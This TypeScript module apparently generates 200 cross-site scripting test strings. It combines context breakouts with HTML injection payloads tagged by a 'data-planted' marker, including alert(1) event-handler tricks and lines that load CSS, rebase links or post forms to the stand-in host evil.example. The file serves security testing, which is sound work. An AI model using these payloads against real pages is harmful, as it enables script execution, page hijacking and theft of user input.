/** What every element bears that a payload would make: to be looked for in a page. */
export const PLANTED_MARK = "data-planted";

/** Ends whatever the text stands in: an element's text, an attribute with each quote, a comment, a script, a style, a template. */
const ways = ["", '">', "'>", "-->", "</script>", "</style>", "</title>", "</textarea>", "]]>", "\\u003c/p\\u003e"];

const M = PLANTED_MARK;

/** What runs a script, loads something, or leads elsewhere, if it is taken for more than text. Short ones first: some fields are short. */
const acts = [
  `<b ${M}>`,
  `<a ${M}>`,
  `<svg ${M} onload=alert(1)>`,
  `<img ${M} src=x onerror=alert(1)>`,
  `<script ${M}>alert(1)</script>`,
  `<body ${M} onload=alert(1)>`,
  `<a ${M} href=javascript:alert(1)>`,
  `<iframe ${M} srcdoc='<script>alert(1)</script>'>`,
  `<details ${M} open ontoggle=alert(1)>`,
  `<input ${M} autofocus onfocus=alert(1)>`,
  `<video ${M}><source onerror=alert(1)></video>`,
  `<svg><script ${M}>alert&#40;1)</script></svg>`,
  `<math><mi ${M} xlink:href="javascript:alert(1)">x</mi></math>`,
  `<object ${M} data="javascript:alert(1)"></object>`,
  `<style ${M}>@import url(https://evil.example/x.css)</style>`,
  `<link ${M} rel=stylesheet href=https://evil.example/x.css>`,
  `<base ${M} href=https://evil.example/>`,
  `<form ${M} action=https://evil.example/><button>x</button></form>`,
  `<template ${M}><img src=x onerror=alert(1)></template>`,
  `<noscript><p title="</noscript><img ${M} src=x onerror=alert(1)>">`,
];

/** Two hundred texts that mean harm to a page that shows them: every way out of a place with everything that could be done there. */
export const scriptPayloads: readonly string[] = acts.flatMap((act) => ways.map((way) => way + act));
